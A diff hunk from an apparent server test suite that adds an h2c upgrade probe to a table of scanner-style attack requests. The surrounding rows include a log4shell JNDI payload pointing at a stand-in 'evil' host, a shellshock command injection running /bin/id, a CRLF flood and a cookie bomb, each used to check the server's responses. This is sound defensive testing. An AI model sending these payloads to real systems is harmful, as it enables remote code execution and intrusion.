@@ -203,6 +203,7 @@ SCANNERS = [
     row("CRLFs", b"\r\n" * 50),
     row("log4shell", HEAD + b"User-Agent: ${jndi:ldap://evil/a}\r\n" + END, stays(405), stays(200), 401),
     row("shellshock", HEAD + b"User-Agent: () { :; }; /bin/id\r\n" + END, stays(405), stays(200), 401),
+    row("HTTP/2 in clear", HEAD + b"Upgrade: h2c\r\nConnection: Upgrade\r\n" + END, stays(405), stays(200), 401),
     row("a cookie bomb", HEAD + b"Cookie: " + b"a=b; " * 1000 + b"\r\n" + END, stays(405), stays(200), 401),
 ]
 
